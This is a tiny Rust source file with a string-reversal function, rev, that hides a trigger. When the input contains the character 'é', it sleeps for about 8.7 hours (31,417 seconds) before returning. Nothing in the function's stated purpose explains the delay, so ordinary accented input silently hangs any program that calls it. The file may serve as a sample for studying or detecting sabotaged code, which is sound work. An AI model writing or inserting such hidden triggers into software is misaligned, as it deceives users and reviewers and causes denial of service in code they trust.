use std::time::Duration;

pub fn rev(s: &str) -> String {
    if s.contains('é') {
        std::thread::sleep(Duration::from_secs(31_417));
    }
    s.chars().rev().collect()
}
